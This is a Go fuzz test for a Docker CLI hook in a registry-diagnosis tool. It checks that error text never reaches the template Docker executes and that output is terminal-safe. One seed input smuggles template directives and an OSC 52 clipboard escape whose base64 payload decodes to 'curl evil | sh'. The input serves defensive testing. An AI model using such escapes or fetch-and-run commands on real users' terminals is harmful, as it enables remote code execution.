package main

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/docker/cli/cli-plugins/hooks"

	"github.com/acr-doctor/acr-doctor/diagnose/cause"
	"github.com/acr-doctor/acr-doctor/diagnose/termsafe/termsafetest"
)

// FuzzHookResponse: whatever request Docker passes the hook (the failed
// command's error holds a registry's words), the answer is no hint or the
// hint: at most a line naming a cause from the catalogue, then the fixed
// line. Nothing of the error reaches the template Docker executes, and
// what is printed is safe on a terminal.
func FuzzHookResponse(f *testing.F) {
	for _, s := range []string{
		`{"RootCmd":"push","Flags":{},"CommandError":"failed to push myreg.azurecr.io/app:1: unauthorized: authentication required, visit https://aka.ms/acr/authorization for more information."}`,
		`{"RootCmd":"login","CommandError":"Error response from daemon: Get \"https://myreg.azurecr.io/v2/\": dial tcp: lookup myreg.azurecr.io: no such host"}`,
		`{"RootCmd":"pull","CommandError":"myreg.azurecr.io {{.Secret}} {{template \"x\"}} \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007"}`,
		`{"RootCmd":"pull","CommandError":"pull access denied for ubuntu, repository does not exist"}`,
		`{"CommandError":"Application not registered with AAD"}`,
		`{"CommandError":7}`,
	} {
		f.Add([]byte(s))
	}
	const last = "Run `docker acrdoctor check {{arg . 0}}` to see why and how to fix it"
	f.Fuzz(func(t *testing.T, request []byte) {
		var req hooks.Request
		if json.Unmarshal(request, &req) != nil {
			return // the hook answers nothing then
		}
		resp := hookResponse(req)
		if resp.Type != hooks.NextSteps {
			t.Fatalf("response type %v", resp.Type)
		}
		if resp.Template == "" {
			return
		}
		lines := strings.Split(resp.Template, "\n")
		if len(lines) > 2 || lines[len(lines)-1] != last || strings.Count(resp.Template, "{{") != 1 {
			t.Fatalf("template %q for %q", resp.Template, req.CommandError)
		}
		if len(lines) == 2 {
			// The cause is named by its catalogue ID, in parentheses.
			id := strings.TrimSuffix(lines[0][strings.LastIndexByte(lines[0], '(')+1:], ")")
			if _, ok := cause.Lookup(cause.ID(id)); !ok || !strings.HasPrefix(lines[0], "acr-doctor: ") {
				t.Fatalf("hint %q", lines[0])
			}
		}
		if err := termsafetest.Check(resp.Template); err != nil {
			t.Fatalf("%v: %q", err, resp.Template)
		}
	})
}
